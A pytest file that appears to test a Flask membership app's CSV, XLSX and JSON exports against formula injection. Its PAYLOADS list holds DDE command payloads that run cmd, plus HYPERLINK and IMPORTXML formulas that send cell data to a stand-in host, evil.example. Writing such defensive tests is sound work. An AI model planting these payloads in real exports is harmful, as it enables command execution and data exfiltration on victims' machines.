"""Known CSV/DDE payloads through the real forms and into every export.

Payloads (the OWASP CSV-injection list and variants hidden after a separator,
quote, tab or line break) are saved through the member's own correction form,
and straight into the database for columns no form edits. Every export is then
read back the way a spreadsheet would: each CSV with both separators (a reader
that guesses the wrong one also breaks the quoting), each workbook with
openpyxl. No cell may start with a formula trigger, except a plain signed number.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import sqlalchemy as sa

from example_app.models import Invoice, Member, db
from tests.support.acl import client_for, make_users
from tests.support.app import csrf_token

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "\"=cmd|' /C calc'!A0\"",
    "\t=1+1",
    "\r=1+1",
    "\uff1dcmd|' /C calc'!A0",
    "Kerkweg 1;=cmd|' /C calc'!A0;",
    "Kerkweg 1,=cmd|' /C calc'!A0,",
    "Kerkweg 1\";=cmd|' /C calc'!A0",
    "Kerkweg 1; @SUM(1)",
    "regel 1\n=1+1",
]
#: The member's own form: one payload per editable text field, round after round.
FORM_FIELDS = ("f_street", "f_city", "f_postcode", "f_phone")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+\-]?\d[\d .,]*")


def _dangerous(cell: str) -> bool:
    text = cell.lstrip(" \u00a0")
    return text.startswith(TRIGGERS) and not NUMBER.fullmatch(text.strip())


def _csv_cells(text: str) -> list[str]:
    text = text.lstrip("\ufeff")
    cells = []
    for sep in (";", ",", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep):
            cells.extend(row)
        # a reader that does not know CSV quoting at all
        cells.extend(re.split(r"[;,\t\r\n]", text))
    return cells


def _xlsx_cells(data: bytes) -> list[str]:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def _store_payloads(app, users) -> Member:
    member = db.session.scalars(sa.select(Member).where(Member.user_id == users["member"].id)).one()
    client = client_for(app, users["member"])
    for n in range(0, len(PAYLOADS), len(FORM_FIELDS)):
        batch = dict(zip(FORM_FIELDS, PAYLOADS[n : n + len(FORM_FIELDS)], strict=False))
        token = csrf_token(client, "/avg/me/edit")
        response = client.post("/avg/me/edit", data={"csrf_token": token, **batch})
        assert response.status_code < 500
    db.session.rollback()
    member = db.session.get(Member, member.id)
    # columns no form edits, and a second member on the board's list
    member.first_name = PAYLOADS[0]
    member.last_name = PAYLOADS[10]
    member.medical_notes = PAYLOADS[14]
    member.iban = PAYLOADS[11]
    for invoice, payload in zip(
        db.session.scalars(sa.select(Invoice).where(Invoice.member_id == member.id)),
        PAYLOADS[4:6],
        strict=False,
    ):
        invoice.description = payload
    other = db.session.scalars(sa.select(Member).where(Member.id != member.id)).first()
    other.street, other.city = PAYLOADS[12], PAYLOADS[13]
    db.session.commit()
    return member


def test_payloads_stay_text_in_every_export_with_either_separator(app):
    users = make_users()
    member = _store_payloads(app, users)
    stored = {member.street, member.city, member.first_name, member.last_name}
    assert any(";=" in (value or "") for value in stored)  # the corpus went in

    own = client_for(app, users["member"])
    board = client_for(app, users["super_user"])
    files: dict[str, bytes] = {}
    for fmt in ("csv", "xlsx", "json"):
        token = csrf_token(own, "/avg/me/export")
        files[f"me.{fmt}"] = own.post(
            "/avg/me/export", data={"format": fmt, "csrf_token": token}
        ).data
        url = f"/avg/members/{member.id}/export"
        token = csrf_token(board, url)
        files[f"member.{fmt}"] = board.post(url, data={"format": fmt, "csrf_token": token}).data
    for fmt in ("csv", "xlsx"):
        token = csrf_token(board, "/avg/members/export")
        files[f"list.{fmt}"] = board.post(
            "/avg/members/export", data={"format": fmt, "csrf_token": token}
        ).data
    for lang in ("nl", "en"):  # ";" on a Dutch page, "," on an English one
        board.get(f"/avg/lang/{lang}")
        token = csrf_token(board, "/avg/members/export")
        files[f"list-{lang}.csv"] = board.post(
            "/avg/members/export", data={"format": "csv", "csrf_token": token}
        ).data
    token = csrf_token(board, "/avg/audit/export")
    files["audit.csv"] = board.post("/avg/audit/export", data={"csrf_token": token}).data
    files["breaches.csv"] = board.get("/avg/breaches.csv").data
    files["register.xlsx"] = board.get("/avg/register.xlsx").data

    assert files["list-nl.csv"].decode("utf-8-sig").startswith('"ID";')
    assert files["list-en.csv"].decode("utf-8-sig").startswith('"ID",')
    cells: list[str] = []
    for name, data in files.items():
        assert data, name
        if name.endswith(".xlsx"):
            cells += _xlsx_cells(data)
        elif name.endswith(".json"):
            doc = json.loads(data)
            assert PAYLOADS[0] in json.dumps(doc, ensure_ascii=False)  # JSON keeps exact text
        elif data.startswith(b"PK"):
            with zipfile.ZipFile(io.BytesIO(data)) as zf:
                for inner in zf.namelist():
                    if inner.endswith(".csv"):
                        cells += _csv_cells(zf.read(inner).decode("utf-8-sig"))
        else:
            cells += _csv_cells(data.decode("utf-8-sig"))
    assert len(cells) > 200
    assert any("cmd|" in cell for cell in cells)  # the payloads are in the files, as text
    assert [cell for cell in cells if _dangerous(cell)] == []


def test_the_separator_follows_the_language_unless_configured():
    import pytest

    from flask_avg.core.config import ConfigurationError
    from flask_avg.features.export.formats import csv_delimiter
    from tests.support.app import make_app

    app = make_app("sqlite://")
    with app.test_request_context():
        assert csv_delimiter() == ";"  # Dutch by default; English: see the export test above
    fixed = make_app("sqlite://", AVG_CSV_DELIMITER=",")
    with fixed.test_request_context():
        assert csv_delimiter() == ","
    with pytest.raises(ConfigurationError, match="AVG_CSV_DELIMITER"):
        make_app("sqlite://", AVG_CSV_DELIMITER="|")
